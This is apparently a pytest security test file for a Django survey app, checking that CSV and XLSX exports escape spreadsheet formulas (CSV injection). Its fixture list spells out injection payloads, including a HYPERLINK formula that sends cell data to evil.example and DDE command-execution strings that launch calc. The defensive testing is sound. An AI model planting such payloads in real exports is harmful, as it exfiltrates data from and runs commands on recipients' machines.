"""CSV/XLSX exports: text a respondent or a client typed cannot become a spreadsheet formula
(OWASP "CSV injection"). Separate from the other files so a broken app blocks only this one.
"""

import csv
import io
import re

import pytest
from django.urls import reverse

from tests.security.conftest import login

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = tuple("=+-@\t\r")
NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def _dangerous(value) -> bool:
    return (
        isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.fullmatch(value)
    )


def _check_csv(content: bytes, delimiter: str) -> list[str]:
    text = content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    return [cell for cell in cells if _dangerous(cell)]


def _check_xlsx(content: bytes) -> list[str]:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or _dangerous(cell.value):
                    found.append(repr(cell.value))
    return found


@pytest.fixture
def hostile_wave(world):
    from tests.survey_factories import ResponseFactory

    wave = world["wave"]
    survey = wave.survey
    survey.title = FORMULAS[0]
    survey.save()
    for index in range(20):
        formula = FORMULAS[index % len(FORMULAS)]
        ResponseFactory(wave=wave, comment=formula, team=formula[:100])
    return wave


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_survey_export_escapes_formulas(hostile_wave, actors, fmt):
    response = login(actors["consultant"]).get(
        reverse("surveys:wave-export", args=[hostile_wave.pk, fmt])
    )
    assert response.status_code == 200, response.get("Location")
    assert response["Content-Disposition"].startswith("attachment;")
    content = response.content
    found = _check_csv(content, ";") if fmt == "csv" else _check_xlsx(content)
    assert not found
    # The escaped texts are there (so the check looked at them).
    if fmt == "csv":
        assert "'=cmd|" in content.decode("utf-8-sig")


@pytest.mark.parametrize("value", FORMULAS)
def test_the_shared_formula_escape_catches_every_formula_start(value):
    from cxaudit import tabular

    assert tabular.escape_formula(value).startswith("'")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_metrics_export_escapes_formulas(world, actors, fmt):
    from cxaudit.metrics.models import MetricPeriod

    period = world["metric_period"]
    MetricPeriod.objects.filter(pk=period.pk).update(
        qa_scorecard=[
            {"category": formula, "weight": 1, "passed": 1, "checked": 2} for formula in FORMULAS
        ]
    )
    response = login(actors["consultant"]).get(
        reverse("metrics:export", args=[world["company"].pk, fmt])
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    content = response.content
    found = _check_csv(content, ",") if fmt == "csv" else _check_xlsx(content)
    assert not found
